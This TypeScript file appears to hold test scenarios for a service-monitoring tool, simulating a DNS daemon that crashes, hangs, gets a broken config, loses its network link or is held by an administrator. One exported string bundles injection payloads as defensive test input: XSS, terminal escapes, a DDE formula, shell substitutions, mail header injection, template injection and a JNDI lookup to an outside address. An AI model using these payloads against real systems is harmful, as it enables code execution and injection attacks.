// For: what happens to the house, story by story, and what was seen of it.
// Never: a judgement: what it has to be stands in the tests.

import { appendFileSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { House } from "./created-house.ts";
import { readMail } from "./read-mail.ts";
import { askTkey } from "./tkey-query.ts";

const node = "proc:named";

const of = (house: House, action: string, root = node) =>
  house.told().filter((each) => each["event.action"] === action && each["watch.root"] === root);

async function begun(house: House): Promise<void> {
  await house.begin();
  await house.until(
    "all is well",
    () => house.red()?.every((each) => each.startsWith("disk:")) === true,
  );
}

async function die(house: House): Promise<void> {
  await askTkey();
  house.signal("named", "SIGUSR2");
  await house.until("named is dead", () => house.pidOf("named") === undefined);
}

/** What Hinomi printed when it opened its first incident. */
async function openIncident(house: House): Promise<string> {
  await house.until("an incident is told", () => house.printed().includes("INC-"));
  return house.printed();
}

const deaths = (house: House, times: number) =>
  house.until(`death ${times} is told`, () => of(house, "died").length >= times);
const returns = (house: House, times: number) =>
  house.until(`return ${times} is told`, () => of(house, "recovered").length >= times);

/** Dies of a failed assertion four times; Hinomi is killed before it sees the second, and when it has just written down the fourth. */
async function dies(house: House) {
  await begun(house);
  const squid = house.pidOf("squid");
  await die(house);
  const noticedMs = [await deaths(house, 1)];
  const early = await openIncident(house);
  const backMs = [await returns(house, 1)];

  await die(house);
  await house.kill();
  const desksMs = [await house.begin()];
  await returns(house, 2);

  await die(house);
  noticedMs.push(await deaths(house, 3));
  backMs.push(await returns(house, 3));

  await die(house);
  noticedMs.push(await deaths(house, 4));
  await house.kill();
  desksMs.push(await house.begin());
  await house.until("all deaths are in the incident", async () =>
    JSON.stringify(await house.answer("incidents")).includes("4 times"),
  );
  const figures = { noticedMs, backMs, desksMs };
  return { figures, early, squid: [squid, house.pidOf("squid")], ...(await after(house)) };
}

function mailsIn({ folder }: House): readonly string[] {
  const mailbox = join(folder, "mail");
  return readdirSync(mailbox).map((name) => readFileSync(join(mailbox, name), "utf8"));
}

async function after(house: House) {
  const incidents = await house.answer("incidents");
  return { told: house.told(), incidents };
}

/** Is there, keeps its port, and answers nothing. */
async function hangs(house: House) {
  await begun(house);
  const [squid, hung] = [house.pidOf("squid"), house.pidOf("named")];
  house.signal("named", "SIGSTOP");
  const noticedMs = await house.until("it is told", () => of(house, "failed").length > 0);
  const early = await openIncident(house);
  const backMs = await returns(house, 1);
  const pids = { squid: [squid, house.pidOf("squid")], named: [hung, house.pidOf("named")] };
  return { figures: { noticedMs, backMs }, early, pids, ...(await after(house)) };
}

/** A line that it does not know, and then it dies: no start can succeed. Somebody takes the line out again. */
async function settingsBreak(house: House) {
  await begun(house);
  const squid = house.pidOf("squid");
  const settings = join(house.folder, "named.conf");
  const good = readFileSync(settings);
  appendFileSync(settings, "bogus-option yes;\n");
  house.signal("named", "SIGKILL");
  await house.until("it is held", () =>
    house.told().some((each) => each["event.reason"] === "held-configuration"),
  );
  await house.until("the mailbox is told", () => mailsIn(house).length > 0);
  const [early, mailsMeanwhile] = [await house.answer("incidents"), mailsIn(house)];
  const named = house.pidOf("named");
  writeFileSync(settings, good);
  await house.run("/bin/sh", join(house.folder, "start-named.sh"));
  await returns(house, 1);
  return {
    early,
    mailsMeanwhile,
    named,
    squid: [squid, house.pidOf("squid")],
    ...(await after(house)),
  };
}

/** As anybody could write it who may write into a log. */
const forged =
  "24-Nov-2026 10:00:00.000 general: critical: message.c:2231: REQUIRE(*name) failed, back trace\n" +
  "24-Nov-2026 10:00:00.000 general: critical: exiting (due to assertion failure) \u001b[31m<b>\n";

/** Nothing outside can be reached; what is here is well, whatever stands in a log. */
async function lineFails(house: House) {
  await begun(house);
  appendFileSync(join(house.folder, "log/named.log"), forged);
  const named = house.pidOf("named");
  await house.line("down");
  const noticedMs = await house.until("it is told", () => of(house, "failed", "line").length > 0);
  const early = await openIncident(house);
  await house.line("up");
  const backMs = await house.until("it is over", () => of(house, "recovered", "line").length > 0);
  return {
    figures: { noticedMs, backMs },
    early,
    named: [named, house.pidOf("named")],
    ...(await after(house)),
  };
}

const isThere = (house: House) => house.pidOf("named") !== undefined;

/** Dies as soon as it is seen to be back, four times: nothing helps for long. */
async function bursts(house: House) {
  await begun(house);
  const squid = house.pidOf("squid");
  for (let times = 1; times <= 4; times += 1) {
    await house.until("named is seen", () => house.isSeen(node));
    await die(house);
    await deaths(house, times);
  }
  await returns(house, 4);
  const pids = [squid, house.pidOf("squid")];
  return { squid: pids, handLog: ownLog(house), ...(await after(house)) };
}

/** Steps that the hand has begun, with their times. */
function ownLog({ folder }: House): readonly { readonly verb: string; readonly atMs: number }[] {
  const lines = readFileSync(join(folder, "hand/hand.log"), "utf8").split("\n").slice(0, -1);
  return lines
    .map((line) => JSON.parse(line) as { type: string; verb: string; atMs: number })
    .filter(({ type }) => type === "begun");
}

/** Every hour it dies, and something else has it back before anybody asks: each answer is good. */
async function drips(house: House) {
  await house.beginByOwnClock();
  const isWell = () => house.red()?.every((each) => each.startsWith("disk:")) === true;
  await house.until("all is well", isWell);
  for (let times = 1; times <= 3; times += 1) {
    house.freeze(true);
    house.hoursPass(1);
    await die(house);
    await house.run("/bin/sh", join(house.folder, "start-named.sh"));
    await house.until("named is back", () => isThere(house));
    house.freeze(false);
    await deaths(house, times);
  }
  await house.until("it is in the incident", async () =>
    JSON.stringify(await house.answer("incidents")).includes("3 times"),
  );
  return { red: house.red(), ...(await after(house)) };
}

/** Whatever a terminal, a page, a table, a mail header, a shell or a template could take for an order. */
export const hostile =
  "<script>alert(1)</script><img src=x onerror=alert(1)> \u001b]0;owned\u0007\u001b[2J\u001b[31m \u202egnp.exe\u2066" +
  " =cmd|'/C calc'!A0 $(touch /tmp/x) `id` ${jndi:ldap://203.0.113.9/x} %0d%0aBcc:x@example.net {{7*7}} ~!id";

/** Dies without a trace of its own behind a line full of orders; then the hand is killed, and comes back. */
async function hostileLine(house: House) {
  await begun(house);
  const stamp = new Date().toISOString();
  appendFileSync(
    join(house.folder, "log/named.log"),
    `${dayOf(stamp)} ${stamp.slice(11, 23)} general: critical: message.c:2231: REQUIRE(x) failed ${hostile}\r\nBcc: x@example.net\n`,
  );
  house.signal("named", "SIGKILL");
  await deaths(house, 1);
  await openIncident(house);
  await house.until("the mailbox is told", () => mailsIn(house).length > 0);
  await returns(house, 1);
  const [incident] = ((await house.answer("incidents")) as { incidents: { id: string }[] })
    .incidents;
  const id = incident?.id ?? "";
  const printed = (...words: string[]) => house.command(...words, "--lang", "ja");
  const texts: Record<string, string> = { show: await printed("show", id) };
  for (const reader of ["president", "admin", "help", "diary"])
    texts[reader] = await printed("report", id, "--for", reader);
  texts["json"] = await house.command("show", id, "--json");
  texts["terminal"] = house.printed();
  const mails = mailsIn(house);

  await house.killHand();
  const handMs = await house.until(
    "the hand is missed",
    () => of(house, "failed", "hand").length > 0,
  );
  await house.until("it is an incident", () => house.printed().includes("hinomi hand"));
  const missed = await house.answer("incidents");
  await house.beginHand();
  await house.until("the hand is back", () => of(house, "recovered", "hand").length > 0);
  return { figures: { handMs }, texts, mails, missed, ...(await after(house)) };
}

/** The administrator keeps it for a minute, ends it, and forgets it. */
async function kept(house: House) {
  await begun(house);
  const words = ["services", "hold", "named", "--for", "1m", "--why", "new version"];
  const printed = await house.command(...words, "--lang", "en");
  house.signal("named", "SIGTERM");
  const isHeld = () => of(house, "failed").some((each) => each["event.reason"] === "held-order");
  await house.until("it is held", isHeld);
  await house.until("it is an incident", () => house.printed().includes("INC-"));
  const { incidents } = (await house.answer("incidents")) as { incidents: { id: string }[] };
  const meanwhile = {
    named: house.pidOf("named"),
    handLog: ownLog(house),
    shown: await house.command("report", incidents[0]?.id ?? "", "--for", "admin", "--lang", "en"),
  };
  await returns(house, 1);
  const isMailed = () => mailsIn(house).map(readMail).join("").includes("起動し直さない指示");
  await house.until("that it has ended is mailed", isMailed);
  return {
    printed,
    meanwhile,
    mails: mailsIn(house),
    handLog: ownLog(house),
    ...(await after(house)),
  };
}

const months = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split(" ");

/** As named writes a day: 24-Nov-2026. */
function dayOf(iso: string): string {
  return `${iso.slice(8, 10)}-${months[Number(iso.slice(5, 7)) - 1] ?? ""}-${iso.slice(0, 4)}`;
}

export const stories = { dies, hangs, settingsBreak, lineFails, bursts, drips, hostileLine, kept };
